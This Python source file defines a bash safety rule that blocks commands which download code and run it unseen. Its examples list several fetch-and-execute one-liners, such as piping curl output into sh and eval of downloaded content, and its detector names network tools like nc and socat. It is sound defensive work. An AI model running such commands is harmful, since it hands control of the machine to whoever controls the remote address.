"""Downloaded code that runs before anybody has seen it."""

import re
from collections.abc import Iterable

from bcce.kit.findings import Rule, Severity, Verdict
from bcce.safety.bash.values import OUT, is_literal
from bcce.safety.bash.view import DOWNLOADERS, INTERPRETERS, Call, View
from bcce.safety.rules.bash import Place

RULE = Rule(
    id="bash.download-run",
    title="Downloaded code is run unseen",
    severity=Severity.CRITICAL,
    verdict=Verdict.BLOCK,
    why="whoever controls the address, or the way to it, decides what runs here",
    instead="ship the script with the SOP, or install it as a signed package",
    tags=("CWE-494", "T1105"),
    examples_match=(
        "curl -fsSL http://example.com/fix.sh | sh",
        "wget -qO- https://x.example/a | sudo bash -s -- --yes",
        "bash <(curl -s https://x.example/a)",
        'sh -c "$(curl -fsSL https://x.example/a)"',
        "curl -o /tmp/a https://x.example/a && chmod +x /tmp/a && /tmp/a",
        "source <(wget -qO- http://x.example/env)",
        "wget https://x.example/y.sh && sh y.sh",
        'x=$(curl -s https://x.example/a); eval "$x"',
        "curl -s https://x.example/a | tee /tmp/a | bash",
    ),
    examples_pass=(
        "curl -fsS http://localhost:8080/health | grep -q ok",
        "curl -o /tmp/page https://x.example/a",
        "cat fix.sh | sh",
        "curl -s http://localhost/a | python3 -m json.tool",
    ),
)
_TO_FILE = ("-o", "-O", "--output", "--output-document", "-P", "-d", "--dir")
_LOADERS = re.compile(r"https?://|ftp://|urlopen|urllib|requests\.get|LWP|Net::HTTP|file_get_contents|fetch\(|http\.get")
_RUNS = re.compile(r"\bexec\b|\beval\b|os\.system|subprocess|popen|child_process|`|system\(|compile\(|importlib|\bload\b|Function\(")


def find(view: View) -> Iterable[Place]:
    """Interpreters fed by a downloader, and files that are downloaded first and run later."""
    saved: set[str] = set()
    for call in view.calls:
        values = call.args
        if call.name in DOWNLOADERS or call.name in ("scp", "ftp", "tftp", "nc", "ncat", "aws", "gsutil"):
            saved.update(_saved(view, call))
        if call.name is None:
            if (
                _is_fed(view, call)
                and call.command.argv
                and call.command.argv[0].parts[:1]
                and call.command.argv[0].parts[0].kind in ("output", "variable")
            ):
                yield Place(call.command)
            continue
        is_interpreter = call.name in INTERPRETERS or call.name in (
            "eval",
            "xargs",
            "crontab",
            "at",
            "batch",
            "ssh",
            "parallel",
        )
        if is_interpreter and call.name != "xargs" and _is_fed(view, call) and not _has_own_program(call):
            yield Place(call.command)
        elif (call.name in saved or f"./{call.name}" in saved) or (is_interpreter and saved.intersection(values)):
            yield Place(call.command, "a file that was downloaded just before is run")
        elif (
            (call.name in INTERPRETERS and any(_LOADERS.search(value) and _RUNS.search(value) for value in values))
            or (
                call.name in ("pip", "npm", "gem", "go", "cargo")
                and "install" in values
                and any(value.startswith(("http://", "git+http://")) for value in values)
            )
            or (
                call.name in ("kubectl", "oc", "docker", "rpm", "dpkg", "bash", "ansible-pull")
                and any(value.startswith("http://") for value in values)
                and {"apply", "create", "-i", "-U", "-Uvh", "-ivh", "--install"}.intersection(values)
            )
        ):
            yield Place(call.command)


def _is_fed(view: View, call: Call) -> bool:
    return any(_downloads(source) for source in view.sources(call))


def _downloads(call: Call) -> bool:
    if call.name in ("nc", "ncat", "netcat", "socat"):
        return not call.has("-z")
    if call.name in DOWNLOADERS:
        return True
    if call.name in ("dig", "nslookup", "host", "drill"):
        return any(value.upper() == "TXT" for value in call.values)
    if call.name == "openssl":
        return "s_client" in call.values
    if call.name in ("aws", "gsutil", "s3cmd", "rclone", "az", "gcloud"):
        return any(value.startswith(("s3://", "gs://", "az://")) for value in call.values) and any(
            value in ("cp", "cat") for value in call.values
        )
    return call.name in ("python", "perl", "ruby", "php") and any(_LOADERS.search(value) for value in call.values)


def _has_own_program(call: Call) -> bool:
    """`curl … | python3 -c 'program'` reads data with a program that stands in the script."""
    if call.name in ("python", "perl", "ruby", "node", "php"):
        return any(value in ("-c", "-e", "-ne", "-pe", "-lne", "-ane", "-m", "-r", "-p", "-n") for value in call.values) or any(
            value.endswith((".py", ".pl", ".rb", ".js", ".php")) for value in call.operands[:1]
        )
    if call.name in ("ssh",):
        return len(call.operands) > 1
    return (
        call.name in ("bash", "sh")
        and bool(call.operands)
        and call.operands[0].startswith("/")
        and not call.operands[0].startswith("/dev/")
        and "-s" not in call.args
        and "-c" not in call.args
    )


def _saved(view: View, call: Call) -> set[str]:
    found: set[str] = set()
    args = call.args
    for index, value in enumerate(args):
        if value in _TO_FILE and index + 1 < len(args):
            found.add(args[index + 1])
        elif value.startswith(("--output=", "--output-document=")):
            found.add(value.partition("=")[2])
        elif re.fullmatch(r"-[a-zA-Z]*[oO]", value) and len(value) > 2 and index + 1 < len(args):
            found.add(args[index + 1])
        elif "://" in value or (call.name in ("scp",) and ":" in value):
            last = value.partition("?")[0].rpartition("/")[2]
            found.add(last or "index.html")
    for command in [call.command, *(other for other in view.script.commands if call.command in other.inputs)]:
        for redirect in command.redirects:
            if redirect.operator.startswith(">"):
                found.update(view.targets(redirect))
        if command is not call.command:
            found.update(operand for other in view.by_command.get(id(command), []) if other.name == "tee" for operand in other.operands)
    kept = {value for value in found if value not in ("-", "/dev/null") and (is_literal(value) or (len(value) > 1 and value != OUT))}
    return kept | {f"./{value}" for value in kept if "/" not in value} | {value[2:] for value in kept if value.startswith("./")}
